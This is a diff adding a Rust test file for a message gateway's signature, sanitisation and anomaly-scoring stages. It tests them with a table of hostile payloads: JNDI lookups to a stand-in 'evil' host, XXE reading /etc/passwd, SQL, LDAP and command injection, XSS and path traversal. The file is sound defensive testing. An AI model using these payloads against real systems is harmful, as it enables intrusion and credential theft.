@@ -1,0 +1,296 @@
+//! What the last stages find in payloads, take out of them, and make of it all.
+
+use portcullis_common::stage::{Stage, Stages};
+
+use super::*;
+
+const TYPES: &str = r#"
+[message.post]
+roles = ["member"]
+route = "room"
+html = ["text", "notes[]:strip", "raw:escape"]
+path_fields = ["file", "files[].name"]
+[message.strict]
+roles = ["member"]
+route = "room"
+controls = "refuse"
+signatures = "refuse"
+[message.free]
+roles = ["member"]
+route = "room"
+controls = "keep"
+signatures = "off"
+[message.composed]
+roles = ["member"]
+route = "room"
+nfc = true
+"#;
+
+fn message(kind: &str, payload: &str) -> String {
+    format!(r#"{{"type":"{kind}","to":{{"room":"r"}},"csrfToken":"TOKEN","payload":{payload}}}"#)
+}
+
+/// The payload as it goes on, or the refusal.
+fn through(bench: &mut Bench, kind: &str, payload: &str) -> Result<String, Reject> {
+    let text = message(kind, payload).replace("TOKEN", &bench.token);
+    // so that only what is asked about refuses
+    bench.wait(Duration::from_secs(3_600));
+    match bench.check(Frame::Text(&text)).verdict {
+        Verdict::Pass(passed) => Ok(passed.message.payload.map(|raw| raw.get().to_owned()).unwrap_or_default()),
+        Verdict::Reject { reject, .. } => Err(reject),
+        Verdict::Park(key) => panic!("{key:?}"),
+    }
+}
+
+/// Kind, payload, code.
+const HOSTILE: &[(Stage, &str, &str, Code)] = &[
+    (Stage::Signatures, "chat", r#"{"filter":{"$gt":""}}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"filter":{"$ne":null}}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"a":[{"$where":"1"}]}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"\u0024regex":".*"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"text":"${jndi:ldap://evil/a}"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"text":"\u0024{jndi:rmi://x}"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"text":"%24%7bjndi:ldap://x%7d"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"text":"${${::-j}ndi:dns://x}"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"{"xml":"<!ENTITY % p SYSTEM 'file:///etc/passwd'>"}"#, Code::Forbidden),
+    (Stage::Signatures, "chat", r#"["rO0ABXNyABFqYXZh"]"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"x' OR '1'='1"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"1 UNION/**/SELECT password"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"<script>alert(1)</script>"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"%3Cscript%3Ealert(1)"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"a":{"b":[["{{7*7}}"]]}}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"x; cat /etc/passwd"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"*)(uid=*))(|(uid=*"}"#, Code::Forbidden),
+    (Stage::Signatures, "strict", r#"{"text":"../../../etc/shadow"}"#, Code::Forbidden),
+    (Stage::Sanitise, "post", r#"{"file":"../../x"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"/etc/x"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"C:\\x"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"\\\\host\\x"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"a\u0000.png"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"%2e%2e%2fx"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"%252e%252e%252fx"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"%c0%ae%c0%ae/x"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"a/b\\c"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":"NUL.txt"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"files":[{"name":"ok"},{"name":"../no"}]}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"file":{"a":"../x"}}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"text":["<script>"]}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "post", r#"{"text":7}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "strict", r#"{"text":"a\u0000b"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "strict", r#"{"text":"exe\u202etxt"}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "chat", r#"{"a\u0007b":1}"#, Code::SchemaInvalid),
+    (Stage::Sanitise, "chat", r#"{"a":{"\u202eb":1}}"#, Code::SchemaInvalid),
+];
+
+#[test]
+fn hostile_payloads_get_their_answer_and_without_the_stage_they_pass() {
+    for (stage, kind, payload, code) in HOSTILE {
+        let mut bench = Bench::with(TYPES);
+        let refused = through(&mut bench, kind, payload);
+        assert_eq!(refused.as_ref().map_err(|r| r.code), Err(*code), "{payload}: {refused:?}");
+        bench.policy.off = Stages::NONE.with(*stage);
+        assert!(through(&mut bench, kind, payload).is_ok(), "{payload} is stopped by another stage than {stage}");
+    }
+}
+
+#[test]
+fn in_a_dry_run_they_pass_unchanged_and_are_noted() {
+    for (stage, kind, payload, code) in HOSTILE {
+        let mut bench = Bench::with(&format!("{TYPES}\n[pipeline]\ndry_run = [\"{stage}\"]"));
+        let text = message(kind, payload).replace("TOKEN", &bench.token);
+        let checked = bench.check(Frame::Text(&text));
+        assert!(checked.notes.iter().any(|note| note.stage == *stage && note.reject.code == *code), "{payload}");
+        assert!(matches!(checked.verdict, Verdict::Pass(_)), "{payload}");
+    }
+    let mut bench = Bench::with(&format!("{TYPES}\n[pipeline]\ndry_run = [\"sanitise\"]"));
+    let payload = r#"{"text":"<script>x</script>"}"#;
+    assert_eq!(through(&mut bench, "post", payload).unwrap(), payload);
+}
+
+#[test]
+fn what_is_taken_out_is_gone_and_counted_and_the_rest_stays() {
+    let mut bench = Bench::with(TYPES);
+    for (kind, payload, after) in [
+        ("post", r#"{"text":"<b onclick=x>hi</b><script>x</script>"}"#, r#"{"text":"<b>hi</b>"}"#),
+        ("post", r#"{"text":"<img src=x onerror=alert(1)>hi"}"#, r#"{"text":"hi"}"#),
+        ("post", r#"{"text":"\u003cscript\u003ex\u003c/script\u003ehi"}"#, r#"{"text":"hi"}"#),
+        ("post", r#"{"notes":["<b>a</b>","b"], "n":1}"#, r#"{"notes":["a","b"], "n":1}"#),
+        ("post", r#"{"raw":"<b>"}"#, r#"{"raw":"&lt;b&gt;"}"#),
+        ("post", r#"{"text":"<scr\u0000ipt>x</script>"}"#, r#"{"text":""}"#),
+        ("chat", r#"{"text":"a\u0000b\u202ec"}"#, r#"{"text":"abc"}"#),
+        ("chat", r#"{"deep":[[{"x":"a\u0007"}]]}"#, r#"{"deep":[[{"x":"a"}]]}"#),
+        ("composed", "{\"text\":\"e\u{301}\"}", "{\"text\":\"é\"}"),
+    ] {
+        let once = through(&mut bench, kind, payload).unwrap_or_else(|e| panic!("{payload}: {e:?}"));
+        assert_eq!(once, after, "{payload}");
+        assert_eq!(through(&mut bench, kind, &once).unwrap(), once, "cleaned twice");
+    }
+    let text = message("post", r#"{"text":"<i><u>a","x":"\u0001"}"#).replace("TOKEN", &bench.token);
+    let Verdict::Pass(passed) = bench.check(Frame::Text(&text)).verdict else { panic!() };
+    assert_eq!((passed.cleaned.html, passed.cleaned.controls), (1, 1));
+}
+
+#[test]
+fn benign_payloads_pass_byte_for_byte() {
+    let mut bench = Bench::with(TYPES);
+    for text in BENIGN {
+        let payload = serde_json::json!({ "text": text }).to_string();
+        // in a field that holds HTML this is a tag
+        let html = !text.contains("<stdio");
+        for kind in ["chat", "strict", "free"].into_iter().chain(html.then_some("post")) {
+            let passed = through(&mut bench, kind, &payload).unwrap_or_else(|e| panic!("{kind} {text}: {e:?}"));
+            assert_eq!(passed, payload, "{kind}");
+        }
+    }
+}
+
+const BENIGN: &[&str] = &[
+    "",
+    "hello",
+    "Grüße aus Köln",
+    "Łódź, Kraków, Gdańsk",
+    "Đorđe Šešelj",
+    "Ærøskøbing",
+    "São João",
+    "Núñez",
+    "Ñandú",
+    "Αθήνα",
+    "Привет, мир",
+    "Київ",
+    "שלום עולם",
+    "مرحبا بالعالم",
+    "سلام دنیا",
+    "नमस्ते दुनिया",
+    "வணக்கம்",
+    "ສະບາຍດີ",
+    "สวัสดีครับ",
+    "こんにちは",
+    "世界你好",
+    "안녕하세요",
+    "გამარჯობა",
+    "Բարեւ",
+    "ሰላም",
+    "O'Brien",
+    "D'Angelo & Sons",
+    "Jean-Luc",
+    "Mary Ann O'Neil-Smith III",
+    "😀",
+    "👩‍👩‍👧‍👦 family",
+    "🏳️‍🌈",
+    "🇺🇦🇯🇵",
+    "❤️‍🔥 ok",
+    "👍🏽",
+    "a < b",
+    "x > y && y > z",
+    "1<2<3",
+    "if (a<1) b();",
+    "i <3 u",
+    "x <= y",
+    "f(x) = {x : x < 5}",
+    "\\frac{1}{2} < \\pi",
+    "∀x ∈ ℝ: x² ≥ 0",
+    "50 % off",
+    "100%",
+    "5 & 6",
+    "R & D",
+    "fn main() { println!(\"hi\"); }",
+    "let x = a || b;",
+    "for (i = 0; i < n; i++) sum += a[i];",
+    "SELECT name FROM users WHERE id = 3",
+    "git commit -m \"it's done\"",
+    "npm install && npm test",
+    "def f(x): return x if x < 3 else 4",
+    "#include <stdio.h>",
+    "vec![1, 2, 3].iter().map(|x| x * 2)",
+    "https://example.com/a?b=c&d=e#f",
+    "http://localhost:8080/x",
+    "mailto:a@b.example",
+    "see ../readme.md",
+    "C# and C++",
+    "what?!",
+    "(a) and (b)",
+    "[link](https://example.com)",
+    "**bold** _it_ `code`",
+    "- item\n- item\n\n1. one",
+    "tab\tseparated\tvalues",
+    "line\r\nbreaks",
+    "\"quoted\" 'single'",
+    "a\\b",
+    "50€ – £20 … “x”",
+    "@someone #tag",
+    "{{ name }}",
+    "${HOME}",
+    "$5.00",
+    "user@example.com",
+    "+49 30 123456",
+    "2026-11-23T04:00:00Z",
+    "::1",
+    "192.0.2.1",
+    "0x1F",
+    "1e-9",
+    "true",
+    "null",
+    "undefined",
+    "well -- maybe; later",
+    "drop me a line; insert coin",
+    "the union will select a speaker",
+    "I like JavaScript: a lot",
+    "order by name",
+    "eval the results",
+    "he said \"yes\" or \"no\"",
+];
+
+#[test]
+fn evidence_adds_up_to_a_restriction_that_ends_when_it_says() {
+    let rules = format!("{TYPES}\n[anomaly]\nhalf_life = \"10s\"\nrestrict = 8\ndisconnect = 100");
+    let mut bench = Bench::with(&rules);
+    let attack = message("chat", r#"{"text":"1 UNION SELECT password, <script>x</script>"}"#);
+    assert!(bench.text(&attack).is_ok(), "six points are not eight");
+    assert!(bench.text(&attack).is_ok(), "this one goes through, and is the one too many");
+    let chat = message("chat", r#"{"text":"hi"}"#);
+    let refused = bench.text(&chat).unwrap_err();
+    assert_eq!((refused.code, refused.close), (Code::Restricted, None));
+    assert!(refused.detail.contains("sql.union 3"), "{}", refused.detail);
+    assert!(bench.text(r#"{"type":"health-check"}"#).is_ok());
+    let wait = refused.retry_after.unwrap();
+    bench.wait(wait - Duration::from_millis(2));
+    assert_eq!(bench.code(&chat), Code::Restricted, "being refused adds nothing and forgives nothing");
+    bench.wait(Duration::from_millis(2));
+    assert!(bench.text(&chat).is_ok());
+}
+
+#[test]
+fn who_goes_on_is_disconnected_and_in_a_dry_run_is_not() {
+    let rules = format!("{TYPES}\n[anomaly]\nhalf_life = \"1h\"\nrestrict = 5\ndisconnect = 8");
+    let attack = message("chat", r#"{"text":"1 UNION SELECT password, <script>x</script>"}"#);
+    let mut bench = Bench::with(&rules);
+    assert!(bench.text(&attack).is_ok());
+    let refused = bench.text(&attack).unwrap_err();
+    assert_eq!((refused.code, refused.close), (Code::Restricted, None), "restricted first");
+    // what no restriction stops still adds up
+    let junk = "{";
+    let ended = (0..20).find_map(|_| bench.text(junk).err().filter(|reject| reject.close.is_some())).unwrap();
+    assert_eq!((ended.code, ended.close), (Code::Restricted, Some(Close::Forbidden)));
+    let mut dry = Bench::with(&format!("{rules}\n[pipeline]\ndry_run = [\"score\"]"));
+    assert!((0..10).all(|_| dry.text(&attack).is_ok()));
+}
+
+#[test]
+fn a_session_without_evidence_carries_no_score() {
+    let mut bench = Bench::with(TYPES);
+    assert!(bench.text(r#"{"type":"join","to":{"room":"r"},"csrfToken":"TOKEN"}"#).is_ok());
+    assert!(bench.state.score.is_none());
+}
+
+#[test]
+fn signatures_of_the_operators_own_join_the_products() {
+    let policy = compile("[signatures]\nfile = \"signatures.toml\"", 1, Arc::new(Buckets::default())).unwrap();
+    assert!(policy.signatures() > 20);
+    let mut bench = Bench::with("[signatures]\nbuiltin = false\nfile = \"signatures.toml\"");
+    assert_eq!(bench.policy.signatures(), 2);
+    assert_eq!(through(&mut bench, "chat", r#"{"text":"project orpheus"}"#).unwrap_err().code, Code::Forbidden);
+    assert!(through(&mut bench, "chat", r#"{"other":"project orpheus"}"#).is_ok(), "only in its field");
+    assert!(through(&mut bench, "chat", r#"{"text":"1 UNION SELECT 2"}"#).is_ok());
+    let broken = compile("[signatures]\nfile = \"broken.json\"", 1, Arc::new(Buckets::default())).unwrap_err();
+    assert!(broken.iter().any(|(key, _)| key == "signatures.file"), "{broken:?}");
+}
